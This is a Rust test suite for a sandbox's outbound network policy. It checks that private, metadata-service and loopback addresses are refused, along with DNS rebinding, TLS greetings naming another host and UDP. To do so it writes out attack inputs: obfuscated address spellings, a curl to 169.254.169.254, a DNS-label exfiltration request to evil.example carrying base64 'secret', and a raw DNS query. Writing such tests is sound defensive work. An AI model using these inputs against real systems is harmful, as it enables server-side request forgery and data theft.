//! What does not leave a lane: each refusal with its line, and the option in that line does allow it.

use crate::street::{Street, each, refusal};

/// A lane with `net` that does `script` is refused with this line; with the option of the line it is not.
fn refused(street: &Street, net: &[&str], script: &str, line: &str) {
    let ran = street.sh(net, script);
    assert_ne!(ran.code, Some(0), "{ran}");
    assert_eq!(refusal(&ran), line, "{ran}");
    let option = line.split_once("; allow it: ").map(|(_, option)| option);
    if let Some(option) = option {
        let option: Vec<&str> = option.split(' ').collect();
        let ran = street.sh(&option, script).expect_code(0);
        assert!(!ran.err().contains("refused "), "{ran}");
    }
}

#[test]
fn open_refuses_what_is_not_public_with_a_line_and_the_option_that_allows_it() {
    each(|street| {
        for (url, line) in [
            ("http://10.9.9.9/", "10.9.9.9:80 for curl: private; allow it: --net open:10.9.9.9"),
            ("http://[fd77::1]/", "[fd77::1]:80 for curl: private; allow it: --net open:[fd77::1]"),
            ("http://[::ffff:10.9.9.9]/", "10.9.9.9:80 for curl: private; allow it: --net open:10.9.9.9"),
            (
                "http://169.254.169.254/",
                "169.254.169.254:80 for curl: a cloud's metadata service; allow it: --net open:169.254.169.254",
            ),
            (
                "http://198.18.0.1/",
                "198.18.0.1:80 for curl: reserved for benchmarks (198.18.0.0/15); allow it: --net open:198.18.0.1",
            ),
            (
                "http://lan.example/",
                "lan.example:80 for curl: lan.example is 10.9.9.9, which is private; allow it: --net open:10.9.9.9",
            ),
            (
                "http://meta.example/",
                "meta.example:80 for curl: meta.example is 169.254.169.254, which is a cloud's metadata service; \
                 allow it: --net open:169.254.169.254",
            ),
            // The forms in which an address can be written are one address.
            ("http://0x0a.9.2313/", "10.9.9.9:80 for curl: private; allow it: --net open:10.9.9.9"),
            ("http://168364297/", "10.9.9.9:80 for curl: private; allow it: --net open:10.9.9.9"),
        ] {
            refused(street, &[], &format!("curl -sS -g -m 20 '{url}'"), &format!("refused: {line}"));
        }
    });
}

#[test]
fn the_hosts_loopback_is_not_the_lanes_in_any_spelling() {
    each(|street| {
        for host in [
            "127.0.0.1",
            "127.1",
            "0",
            "0.0.0.0",
            "[::1]",
            "[::]",
            "[::ffff:127.0.0.1]",
            "localhost",
            "2130706433",
            "home.example",
        ] {
            let ran = street.sh(&[], &format!("curl -sS -g -m 20 'http://{host}/'"));
            assert_eq!(ran.code, Some(7), "{host}: {ran}");
        }
        // In IPv6 forms that carry it.
        for host in ["[::7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"] {
            let ran = street.sh(&[], &format!("curl -sS -g -m 20 'http://{host}/'"));
            assert_eq!(ran.code, Some(7), "{host}: {ran}");
            assert!(refusal(&ran).contains("loopback"), "{ran}");
        }
        assert!(!street.told().contains("page"), "{}", street.told());
    });
}

#[test]
fn a_name_that_turns_into_a_private_address_is_judged_by_the_address_that_is_connected_to() {
    each(|street| {
        let script = "import socket
for _ in range(2):
    address = socket.gethostbyname('rebind.example')
    try:
        socket.create_connection((address, 80), 20); print(address, 'reached')
    except OSError as error: print(address, error.errno)";
        let ran = street.python(&[], script).expect_code(0);
        assert_eq!(ran.out(), "93.184.216.34 reached\n10.9.9.9 1\n", "{ran}");
        let ran = street.sh(&[], "curl -sS -m 20 http://mixed.example/").expect_code(0);
        assert_eq!(ran.out(), "hello\n", "the public address of two: {ran}");
        assert!(refusal(&ran).contains("mixed.example is 10.9.9.9"), "{ran}");
    });
}

#[test]
fn allow_refuses_every_other_host_and_does_not_even_ask_for_its_name() {
    each(|street| {
        let net = ["--net", "allow:four.example:80"];
        refused(
            street,
            &net,
            "curl -sS -m 20 http://93.184.216.35/",
            "refused: 93.184.216.35:80 for curl: not among the hosts of --net allow; allow it: --net allow:four.example:80,93.184.216.35",
        );
        refused(
            street,
            &net,
            "/usr/bin/python3 -c \"import socket; socket.create_connection(('four.example', 7000), 20)\"",
            "refused: four.example:7000 for python3: --net allow names this host without port 7000; allow it: --net allow:four.example:80,four.example:7000",
        );
        assert!(!street.told().contains("asked evil.example"));
        let ran = street.sh(&net, "curl -sS -m 20 http://c2VjcmV0.evil.example/");
        assert_eq!(ran.code, Some(6), "{ran}");
        let line = refusal(&ran);
        assert!(line.starts_with("refused: c2vjcmv0.evil.example"), "{line}");
        assert!(line.ends_with("allow it: --net allow:four.example:80,c2vjcmv0.evil.example"), "{line}");
        assert!(!street.told().to_lowercase().contains("c2vjcmv0"), "{}", street.told());
        // Text records and the like carry as much.
        let ran = street.python(
            &net,
            "import socket
q = b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\7example\\0\\0\\x10\\0\\1'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20)
s.sendto(q, ('127.0.0.1', 53)); print(s.recv(512)[3] & 15)",
        );
        assert_eq!(ran.expect_code(0).out(), "3\n");
        assert!(!street.told().contains("secret"));
    });
}

#[test]
fn a_greeting_for_another_host_goes_nowhere() {
    each(|street| {
        let net = ["--net", "allow:good.example"];
        let ran = street.sh(
            &net,
            "getent ahosts good.example >/dev/null
curl -sS -k -m 20 --resolve evil.example:443:93.184.216.34 https://evil.example/",
        );
        assert_eq!(ran.code, Some(35), "{ran}");
        assert_eq!(
            refusal(&ran),
            "refused: evil.example:443 for curl: named on a connection to good.example; allow it: --net allow:good.example,evil.example"
        );
        let ran = street.sh(
            &net,
            "curl -sS -k -m 20 https://good.example/ -o /dev/null; curl -sS -k -m 20 https://93.184.216.34/",
        );
        assert_eq!(ran.code, Some(35), "{ran}");
        assert!(
            refusal(&ran)
                .starts_with("refused: good.example:443 for curl: a TLS greeting that names no host"),
            "{ran}"
        );
        assert!(!street.told().contains("greeted evil.example"), "{}", street.told());
    });
}

#[test]
fn none_and_loopback_reach_nothing_and_say_what_would() {
    each(|street| {
        for net in ["none", "loopback"] {
            let ran = street.sh(&["--net", net], "curl -sS -m 20 http://good.example/");
            assert_eq!(ran.code, Some(6), "{ran}");
            let line = refusal(&ran);
            assert!(line.starts_with("refused: good.example"), "{line}");
            assert!(
                line.ends_with(&format!(
                    ": --net {net}: the lane reaches nothing outside; allow it: --net allow:good.example"
                )),
                "{line}"
            );
            refused(
                street,
                &["--net", net],
                "curl -sS -m 20 http://93.184.216.34/",
                &format!(
                    "refused: 93.184.216.34:80 for curl: --net {net}: the lane reaches nothing outside; allow it: --net allow:93.184.216.34"
                ),
            );
        }
    });
}

#[test]
fn datagrams_are_refused_at_once_and_told_of() {
    each(|street| {
        let script = "import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: s.sendto(b'x', ('93.184.216.34', 53))
except OSError as error: print(error.errno)";
        let ran = street.python(&[], script).expect_code(0);
        assert_eq!(ran.out(), "101\n");
        assert_eq!(
            refusal(&ran),
            "refused: 93.184.216.34:53 (udp) for python3: UDP does not leave a lane (names are asked for at its own resolver); allow it: --net host"
        );
    });
}

#[test]
fn b47_a_wish_that_is_unclear_or_cannot_be_kept_runs_nothing() {
    each(|street| {
        for (options, code, words) in [
            (&["--net", "lan"][..], 2, "'lan' is no kind of network"),
            (&["--net", "allow:no-such"], 2, "'no-such' is neither a host nor a preset"),
            (&["--net", "allow:127.0.0.1"], 2, "--host-port"),
            (&["--net", "allow"], 2, "no host is named"),
            (&["--net", "none", "--publish", "80"], 2, "--net none"),
            (&["--net", "host", "--host-port", "80"], 2, "--net host"),
            (&["--publish", "8000:7000"], 125, "port 7000 of this machine cannot be published"),
        ] {
            let ran = street.sh(options, "echo ran");
            assert_eq!(ran.code, Some(code), "{options:?}: {ran}");
            assert!(ran.err().contains(words) && !ran.out().contains("ran"), "{options:?}: {ran}");
        }
    });
}

#[test]
fn b47_when_the_process_that_answers_is_killed_nothing_leaves_any_more() {
    each(|street| {
        let script = "curl -sS -m 20 http://good.example/; echo first; while [ ! -e go ]; do :; done; curl -sS -m 20 http://93.184.216.34/; echo $?";
        let mut running = testkit::Running::start(street.lane(&["run", "-n", "a", "--", "sh", "-c", script]));
        running.wait_for("first", crate::street::SOON);
        let supervisor = running
            .descendants()
            .into_iter()
            .find(|pid| threads(*pid).iter().any(|name| name == "lane-network"));
        let supervisor = supervisor.expect("the process that answers");
        let _ = std::process::Command::new("kill").args(["-9", &supervisor.to_string()]).status();
        let made = street.run(&["exec", "a", "--", "touch", "go"]);
        assert_eq!(made.code, Some(0), "{made}");
        let ran = running.wait(crate::street::SOON);
        assert!(ran.out().starts_with("hello\nfirst\n7\n"), "{ran}");
        assert!(ran.err().contains("nothing left the lane from then on"), "{ran}");
    });
}

fn threads(pid: u32) -> Vec<String> {
    let tasks = std::fs::read_dir(format!("/proc/{pid}/task")).into_iter().flatten().flatten();
    let name =
        |task: std::fs::DirEntry| std::fs::read_to_string(task.path().join("comm")).unwrap_or_default();
    tasks.map(|task| name(task).trim().to_owned()).collect()
}
